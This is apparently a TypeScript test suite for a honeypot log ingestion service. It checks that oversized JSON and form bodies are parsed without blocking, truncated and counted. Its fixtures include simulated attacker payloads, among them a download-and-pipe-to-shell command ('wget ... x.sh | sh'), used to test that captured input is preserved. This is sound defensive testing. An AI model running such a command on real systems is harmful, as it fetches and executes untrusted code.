/** The longest bodies that are taken, made to be slow to read: others have their turns, and nothing is lost without a word. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { InputBody } from '../../src/api/inputs/input-body.ts';
import { readInput } from '../../src/api/inputs/input-routes.ts';
import { parseNativeEvent } from '../../src/ingest/native.ts';
import { readBatch } from '../../src/ingest/read-batch.ts';
import { openTestServer } from '../support/server.ts';

const most = 8 * 1024 * 1024 - 100;
const fill = (unit: string, length = most): string => unit.repeat(Math.floor(length / unit.length));
const keys = (count: number): string => Array.from({ length: count }, (_, at) => `"k${at}":1`).join(',');
const cowrie = {
  eventid: 'cowrie.login.failed',
  src_ip: '203.0.113.9',
  session: 's',
  username: 'root',
  password: 'x',
  timestamp: '2026-11-30T12:00:00Z',
};
const event = { timestamp: '2026-11-30T12:00:00Z', service: 'http', source_ip: '203.0.113.9', activity: 'a' };

/** How often others had their turn while `work` was under way. */
async function countTurns(work: () => Promise<unknown>): Promise<number> {
  let turns = 0;
  let isOver = false;
  const count = (): void => {
    turns++;
    if (!isOver) setImmediate(count);
  };
  setImmediate(count);
  await work().catch(() => undefined);
  isOver = true;
  return turns;
}

describe('a body of 8 MiB', () => {
  const bodies: [name: string, text: string][] = [
    ['one event with very many values', `{"extra":{"a":[${fill('{},').slice(0, -1)}]}}`],
    ['very many different keys', `{${keys(600_000)}}`],
    ['JSON in a text', JSON.stringify({ message: `[${fill('{},', most / 2).slice(0, -1)}]` })],
    ['records of a sensor', `[${Array(5000).fill(JSON.stringify(cowrie)).join(',')}]`],
    ['brackets', fill('[')],
    ['beginnings of records', fill('{"a":')],
    ['broken records', fill("{'a': 1} ", most / 8)],
  ];
  for (const [name, text] of bodies)
    it(`lets others have their turns: ${name}`, async () => {
      const bytes = Buffer.from(text);
      assert.ok(bytes.length <= most + 100);
      const batch = () => readBatch(bytes, 'json', { parse: parseNativeEvent });
      const sensor = () => readInput(new InputBody(bytes, 'application/json'), event.timestamp);
      for (const work of [batch, sensor]) assert.ok((await countTurns(work)) > 1, 'it stood still');
    });

  it('is one event where its sender says so, and judged as a whole', async () => {
    const bytes = Buffer.from(
      JSON.stringify({ ...event, payload: `${'A'.repeat(7_000_000)}; wget http://x` }),
    );
    const [entry] = await readBatch(bytes, 'json', { parse: parseNativeEvent });
    assert.equal(entry?.status, 'draft');
    assert.match(String(entry.draft.extra?.payload_rest).slice(-40), /wget/);
  });

  it('is a form of bounded width, and what is left out is counted', async () => {
    const { problems } = await readInput(
      new InputBody(Buffer.from(fill('a=1&b=2&')), 'application/x-www-form-urlencoded'),
      event.timestamp,
    );
    assert.match(problems.map(({ reason }) => reason).join(), /more than 1000 fields/);
  });
});

describe('an event with more values than are kept', () => {
  const wide = JSON.stringify({
    ...event,
    extra: Object.fromEntries(Array.from({ length: 60_000 }, (_, at) => [`k${at}`, at])),
    payload: 'wget http://203.0.113.80/x.sh | sh',
  });

  it('is taken on every way in, marked, and judged by what stands behind them', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const user = await server.createUser();
    const node = await server.createNode(user);
    const { headers } = node;
    const one = await server.call('POST', '/api/honeypot-log', { headers, body: wide });
    assert.equal(one.status, 200);
    const many = await server.call('POST', '/api/events', { headers, body: `[${wide},${wide}]` });
    assert.equal(many.body.accepted, 2);
    const { body } = await server.call<{ items: { log_id: string }[] }>('GET', '/api/events', {
      headers: user.headers,
    });
    assert.equal(body.items.length, 3);
    for (const { log_id } of body.items) {
      const { body: whole } = await server.call<{ payload: string; extra: Record<string, unknown> }>(
        'GET',
        `/api/events/${log_id}`,
        { headers: user.headers },
      );
      assert.match(whole.payload ?? '', /wget/, JSON.stringify(whole).slice(0, 300));
      assert.ok(
        'mended' in whole.extra || 'values_left_out' in whole.extra,
        Object.keys(whole.extra).slice(-3).join(),
      );
    }
  });

  it('is counted where a sensor wraps its records in one', async () => {
    const records = Array(4000).fill(cowrie);
    const { drafts, problems } = await readInput(
      new InputBody(Buffer.from(JSON.stringify({ records })), 'application/json'),
      event.timestamp,
    );
    assert.ok(drafts.length > 1000 && drafts.length < 4000);
    assert.match(problems.map(({ reason }) => reason).join(), /holds more values than are read: \d+ values/);
  });
});
